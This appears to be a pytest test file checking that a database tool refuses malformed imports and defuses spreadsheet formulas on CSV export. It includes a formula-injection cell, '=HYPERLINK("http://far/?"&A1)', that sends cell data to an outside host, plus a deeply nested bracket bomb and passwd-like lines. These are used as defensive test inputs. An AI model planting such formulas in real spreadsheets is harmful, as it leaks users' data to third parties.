"""Files that are wrong, or mistyped: refused with their place, never read as something else."""

import json
import zipfile
from contextlib import closing

import pytest

from tests.support.commands import run_command
from tests.support.sites import exchange

SMALL = (
    "CREATE TABLE k (id {} PRIMARY KEY, uuid varchar(64) NOT NULL UNIQUE, b boolean, d date, t varchar(9))"
)
SERIAL = {"postgresql": "serial", "mariadb": "int AUTO_INCREMENT"}


def take(site, path):
    """Return the status of an import, and what it came to or its one line of error."""
    done = run_command("import", site.url, str(path), "--json")
    assert "unexpected" not in done.err
    return done.status, json.loads(done.out) if done.out else done.err


def line(**columns):
    return json.dumps({"table": "parent", **columns}) + "\n"


@pytest.mark.parametrize(
    ("form", "text"),
    {
        "five": ("json", "5\n"),
        "null": ("json", "null\n"),
        "text": ("json", '"changecapture"\n'),
        "list": ("json", '["changecapture"]\n'),
        "exported": ("json", '{"changecapture":1,"exported":5}\n'),
        "empty": ("json", ""),
        "of a later version": ("json", '{"changecapture":2}\n{"table":"parent","uuid":"x","fields":{}}\n'),
        "half a character": ("json", '{"table":"parent","uuid":"x","fields":{"note":"\\ud800"}}\n'),
        "epoch": ("json", '{"changecapture":1,"epoch":null}\n'),
        "deep": ("json", "[" * 200_000),
        "name twice": ("json", '{"table":"parent","uuid":"x","fields":{"note":"a","note":"b"}}\n'),
        "column twice": ("json", line(uuid="x", fields={"note": "a", "NOTE": "b"})),
        "true in a text": ("json", line(uuid="x", fields={"note": True})),
        "entry of no number": ("json", line(uuid="x", fields={}, entry="a/-1/-1", stamp="2026-01-01")),
        "identity": ("json", line(uuid="x", fields={"uuid": "other"})),
        "number of ours": ("json", line(uuid="x", fields={"id": 77})),
        "later than all": ("json", line(uuid="x", fields={"note": "a"}, stamp="2199-01-01")),
        "of several bytes": ("xml", '<?xml version="1.0" encoding="Shift_JIS"?><changecapture/>'),
        "of no encoding": ("xml", '<?xml version="1.0" encoding="bogus"?><changecapture/>'),
        "misspelt": ("xml", '<changecapture><tabel name="parent"><record uuid="x"/></tabel></changecapture>'),
    }.values(),
    ids=str,
)
def test_file_that_is_wrong_is_refused_and_nothing_of_it_written(home, tmp_path, form, text):
    path = tmp_path / f"rows.{form}"
    path.write_text(text)
    status, came = take(home, path)
    assert status != 0
    assert isinstance(came, str) or (came["written"] == 0 and came["refusals"] > 0)
    assert home.family.shown("parent") == {}


def test_edit_of_what_is_stamped_at_the_end_of_time_stops_nobody(families, tmp_path):
    here, there = families
    path = tmp_path / "rows.json"
    entry = "far/1/1"
    path.write_text(line(uuid="s", stamp="2200-01-01T00:00:00Z", entry=entry, fields={"note": "a"}))
    assert take(here, path)[0] == 0
    path.write_text(line(uuid="s", stamp="2200-01-01T00:00:00Z", entry=entry, fields={"note": "b"}))
    status, came = take(here, path)
    assert (status, came["refusals"]) == (1, 1)
    here.family.add_parent("good")
    exchange(here, there)
    assert there.family.shown("parent") == {"s": "a", "good": None}


@pytest.mark.parametrize(
    ("word", "left"), [("no", 1), ("n", 1), ("FALSE", 1), ("-", 1), ("nein", 1), ("Yes", 0)]
)
def test_row_is_deleted_by_a_word_that_says_so_and_by_no_other(home, tmp_path, word, left):
    home.family.add_parent("n1")
    sheet = tmp_path / "parent.csv"
    sheet.write_text(f"@uuid,note,@deleted\nn1,x,{word}\n")
    status, _ = take(home, tmp_path)
    assert status == (1 if word in ("-", "nein") else 0)
    assert len(home.family.shown("parent")) == left


@pytest.mark.parametrize("kind", SERIAL)
def test_typed_value_is_taken_as_meant_or_refused(new_tables, tmp_path, kind):
    words = {"yes": 1, "TRUE": 1, True: 1, "f": 0, "No": 0, "wahr": None, "": None}
    dates = {"2026-01-31": True, "31.1.2026": False, "2026-02-30": False, "x": False, 5: False}
    fields = [{"b": word} for word in words] + [{"d": day} for day in dates] + [{"t": False}]
    path = tmp_path / "rows.json"
    path.write_text("".join(line(table="k", uuid=f"u{n}", fields=f) for n, f in enumerate(fields)))
    with closing(new_tables(kind, SMALL.format(SERIAL[kind]))) as site:
        status, came = take(site, path)
        shown = dict(site.fetch("SELECT uuid, coalesce(CASE WHEN b THEN 1 ELSE 0 END, 9) FROM k"))
        expected = {f"u{n}": value for n, value in enumerate(words.values()) if value is not None}
        expected |= {f"u{len(words) + n}": 0 for n, fits in enumerate(dates.values()) if fits}
        assert (status, shown) == (1, expected)
        assert came["refusals"] == len(fields) - len(expected)
        assert site.fetch("SELECT 1 FROM {p}parked") == []


def test_spreadsheet_neither_computes_nor_cuts_what_people_have_written(families, tmp_path):
    here, there = families
    texts = ['=HYPERLINK("http://far/?"&A1)', "+963115550101", "-1", "@x", "\t=1", "\\text", "plain"]
    for number, text in enumerate(texts):
        here.family.add_parent(f"{text[:1]}{number}")
        here.family.note("parent", f"{text[:1]}{number}", text)
    folder = tmp_path / "sheets"
    assert run_command("export", here.url, str(folder), "--format", "csv").status == 0
    cells = (folder / "parent.csv").read_text().replace('"', "").replace("\n", ",").split(",")
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "\t"))]
    take(there, folder)
    assert there.family.shown("parent") == here.family.shown("parent")


def pack(path, text):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("parent.csv", text)
    return bytearray(path.read_bytes())


@pytest.mark.parametrize("damage", ["flipped", "encrypted", "no table", "head"])
def test_archive_that_cannot_be_read_says_so(home, tmp_path, damage):
    path = tmp_path / "rows.zip"
    content = pack(path, "@uuid,note\n" + "".join(f"r{n},x{n}\n" for n in range(700)))
    if damage == "flipped":
        content[200] ^= 255
    elif damage == "encrypted":
        content[6] |= 1
        content[content.find(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(content)
    if damage in ("no table", "head"):
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("export.json" if damage == "head" else "rows.txt", "[]")
    status, came = take(home, path)
    assert status != 0
    assert isinstance(came, str) or came["refusals"] > 0


@pytest.mark.parametrize(
    "text", ["root:x:0:0::/root:/bin/sh\n" * 25, "[site]\nn = 1\n", "{\n}\n", "uuid\na\n"]
)
def test_file_of_something_else_is_refused_in_one_line(home, tmp_path, text):
    path = tmp_path / "foreign"
    path.write_text(text)
    done = run_command("import", home.url, str(path))
    assert (done.status, done.out, done.err.count("\n")) == (2, "", 1)
    assert "the file is no export: neither XML, nor JSON lines" in done.err


def test_export_says_how_many_of_its_records_are_parked(families, tmp_path):
    here, there = families
    here.family.add_parent("a", "Nurse")
    there.family.add_parent("b", "Nurse")
    exchange(here, there)
    said = [run_command("export", s.url, str(tmp_path / "f"), "--format", "json").out for s in families]
    assert all("2 records written" in out for out in said)
    assert [("1 of them parked" in out) for out in said].count(True) >= 1


def test_sheet_that_ends_within_a_cell_is_not_taken_for_whole(home, tmp_path):
    folder = tmp_path / "sheets"
    folder.mkdir()
    (folder / "parent.csv").write_text('@uuid,note\nwhole,"a ""b"" c"\ncut,"the text goes on')
    status, came = take(home, folder)
    assert (status, came["written"]) == (1, 1)
    assert came["refused"][0][0] == "parent.csv record 2" and "end of data" in came["refused"][0][1]
    assert home.family.shown("parent") == {"whole": 'a "b" c'}
